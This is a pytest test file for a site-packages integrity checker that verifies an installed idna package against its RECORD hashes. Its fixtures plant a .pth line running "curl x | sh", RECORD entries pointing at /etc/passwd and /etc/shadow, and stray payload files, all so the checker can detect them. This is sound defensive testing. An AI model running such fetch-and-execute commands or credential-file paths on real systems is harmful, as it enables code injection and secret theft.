"""verify_site_packages on a real installed distribution (idna, copied from this test environment's site-packages)."""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest

from tests.pyenv.installed import DIST, INFO, copy_idna
from workbench.pyenv import record
from workbench.pyenv.record import verify_site_packages

#: RECORD entries with a hash inside site-packages: what a clean copy must verify
HASHED = [f for f in DIST.files or [] if f.hash is not None and not str(f).startswith("..")]
OUTSIDE = [f for f in DIST.files or [] if str(f).startswith("..")]


@pytest.fixture
def site(tmp_path: Path) -> Path:
    """A site-packages folder holding a copy of the installed idna package and its dist-info."""
    return copy_idna(tmp_path / "site-packages")


def kinds(report: record.SiteReport) -> list[tuple[str, str]]:
    return [(i.kind, i.path) for i in report.issues]


def test_clean_copy_verifies(site: Path) -> None:
    report = verify_site_packages(site)
    assert report.issues == ()
    assert report.warnings == ()
    assert len(HASHED) > 10
    assert report.files_verified == len(HASHED)
    (dist,) = report.distributions
    assert (dist.name, dist.version, dist.dist_info) == (DIST.metadata["Name"], DIST.version, INFO)
    assert dist.listed == len(DIST.files or [])
    assert dist.outside == len(OUTSIDE)  # pip's ../../../bin/idna script: counted, not an issue
    assert dist.purelib is True
    assert dist.top_level == ("idna",)
    assert report.bytes_hashed == sum(f.size or 0 for f in HASHED)


def test_modified_file_same_size(site: Path) -> None:
    target = site / "idna" / "core.py"
    data = bytearray(target.read_bytes())
    data[-2] ^= 0x01  # same size, different hash
    target.write_bytes(bytes(data))
    report = verify_site_packages(site)
    assert kinds(report) == [("modified", "idna/core.py")]
    assert report.issues[0].distribution == INFO
    assert report.files_verified == len(HASHED)


def test_modified_file_appended(site: Path) -> None:
    with (site / "idna" / "codec.py").open("a") as fh:
        fh.write("\nimport os\n")
    report = verify_site_packages(site)
    assert kinds(report) == [("modified", "idna/codec.py")]


def test_missing_file(site: Path) -> None:
    (site / "idna" / "compat.py").unlink()
    shutil.rmtree(site / "idna" / "__pycache__")  # pyc listed without a hash: generated, not required
    report = verify_site_packages(site)
    assert kinds(report) == [("missing", "idna/compat.py")]
    assert report.files_verified == len(HASHED) - 1


def test_unrecorded_module_and_pycache_excluded(site: Path) -> None:
    (site / "idna" / "_runtime.py").write_text("import socket\n")
    (site / INFO / "extra.txt").write_text("dropped\n")
    (site / "idna" / "__pycache__" / "_runtime.cpython-311.pyc").write_bytes(b"\x00" * 16)  # generated: left out
    (site / "idna" / "__pycache__" / "payload.bin").write_bytes(b"\x00" * 16)  # not a pyc: reported
    (site / "idna" / "hook.pyc").write_bytes(b"\x00" * 16)  # sourceless pyc, importable: reported
    report = verify_site_packages(site)
    assert kinds(report) == [
        ("unrecorded", f"{INFO}/extra.txt"),
        ("unrecorded", "idna/__pycache__/payload.bin"),
        ("unrecorded", "idna/_runtime.py"),
        ("unrecorded", "idna/hook.pyc"),
    ]


def test_pth_executable_line_and_plain_path(site: Path) -> None:
    (site / "litellm_init.pth").write_text("# a comment\n/opt/extra/lib\nimport os; os.system('curl x | sh')\n")
    (site / "plain.pth").write_text("/opt/extra/lib\nrelative/dir\n\n")
    (site / "indented.pth").write_text("  import os\n")
    report = verify_site_packages(site)
    executable = report.of_kind(record.KIND_PTH_EXEC)
    assert [(i.path, i.line) for i in executable] == [("litellm_init.pth", 3)]
    assert "import os; os.system('curl x | sh')" in executable[0].detail
    assert "in no RECORD" in executable[0].detail
    assert [(i.path, i.line) for i in report.of_kind(record.KIND_PTH_INDENTED)] == [("indented.pth", 1)]
    assert not [i for i in report.issues if i.path == "plain.pth"]
    assert len(report.issues) == 2


def test_sitecustomize_flagged_with_code(site: Path) -> None:
    (site / "sitecustomize.py").write_text("# header\n\nimport os\nos.environ['X'] = '1'\n")
    (site / "usercustomize.py").write_text("print('hi')\n")
    report = verify_site_packages(site)
    hooks = report.of_kind(record.KIND_CUSTOMIZE)
    assert [(i.path, i.line) for i in hooks] == [("sitecustomize.py", 3), ("usercustomize.py", 1)]
    assert "3: import os\n4: os.environ['X'] = '1'" in hooks[0].detail
    assert "# header" not in hooks[0].detail


def test_binary_in_purelib(site: Path) -> None:
    (site / "idna" / "helper").write_bytes(b"\x7fELF\x02\x01\x01" + b"\x00" * 57)
    (site / "idna" / "fast.so").write_bytes(b"not really")
    report = verify_site_packages(site)
    assert [i.path for i in report.of_kind(record.KIND_BINARY)] == ["idna/fast.so", "idna/helper"]
    assert [i.path for i in report.of_kind(record.KIND_UNRECORDED)] == ["idna/fast.so", "idna/helper"]


def test_binary_allowed_when_not_purelib(site: Path) -> None:
    (site / "idna" / "helper").write_bytes(b"\x7fELF\x02\x01\x01" + b"\x00" * 57)
    wheel = site / INFO / "WHEEL"
    wheel.write_text(wheel.read_text().replace("Root-Is-Purelib: true", "Root-Is-Purelib: false"))
    report = verify_site_packages(site)
    assert report.of_kind(record.KIND_BINARY) == []
    # WHEEL itself was changed after install: its hash no longer matches
    assert ("modified", f"{INFO}/WHEEL") in kinds(report)


def test_record_escape_and_malformed_line(site: Path) -> None:
    rec = site / INFO / "RECORD"
    lines = rec.read_text().splitlines()
    n = len(lines)
    lines += ["../../etc/passwd,sha256=AAAA,10", "/etc/shadow,,", "idna/core.py,md5=abc,1", "just-a-path", ""]
    rec.write_text("\n".join(lines) + "\n")
    report = verify_site_packages(site)
    escapes = report.of_kind(record.KIND_ESCAPE)
    assert [(i.path, i.line) for i in escapes] == [(f"{INFO}/RECORD", n + 1), (f"{INFO}/RECORD", n + 2)]
    assert "../../etc/passwd" in escapes[0].detail
    assert "/etc/shadow" in escapes[1].detail
    # the escaping entry's own hash was bad too, yet it is flagged by path, never hashed; two bad lines warned
    assert [(w.path, w.line) for w in report.warnings] == [(f"{INFO}/RECORD", n + 3), (f"{INFO}/RECORD", n + 4)]
    assert "md5" in report.warnings[0].reason
    assert len(report.issues) == 2  # the RECORD itself is listed without a hash: not flagged as modified
    assert ("modified", f"{INFO}/RECORD") not in kinds(report)
    assert report.files_verified == len(HASHED)  # the walk went on


def test_symlink_replacing_recorded_file_not_followed(site: Path, tmp_path: Path) -> None:
    secret = tmp_path / "outside.txt"
    secret.write_text("secret")
    target = site / "idna" / "intranges.py"
    target.unlink()
    target.symlink_to(secret)
    report = verify_site_packages(site)
    assert kinds(report) == [("not-regular", "idna/intranges.py")]
    assert "symbolic link" in report.issues[0].detail
    assert report.files_verified == len(HASHED) - 1


def test_caps(site: Path) -> None:
    report = verify_site_packages(site, max_bytes=1)
    assert report.files_verified == 1
    assert any("hashing stopped at 1 bytes" in w.reason for w in report.warnings)
    small = verify_site_packages(site, max_files=3)
    assert small.files_seen == 3
    assert any("inventory stopped at 3 files" in w.reason for w in small.warnings)


def test_symlinked_package_folder_not_followed(site: Path, tmp_path: Path) -> None:
    moved = tmp_path / "elsewhere"
    (site / "idna").rename(moved)
    (site / "idna").symlink_to(moved)
    report = verify_site_packages(site)
    regular = report.of_kind(record.KIND_NOT_REGULAR)
    assert len(regular) == len([f for f in DIST.files or [] if str(f).startswith("idna/")])
    assert all("a folder on its path (idna) is a symbolic link" in i.detail for i in regular)
    assert report.files_verified == len([f for f in HASHED if not str(f).startswith("idna/")])
    assert any(w.path == "idna" for w in report.warnings)  # the walk recorded the link
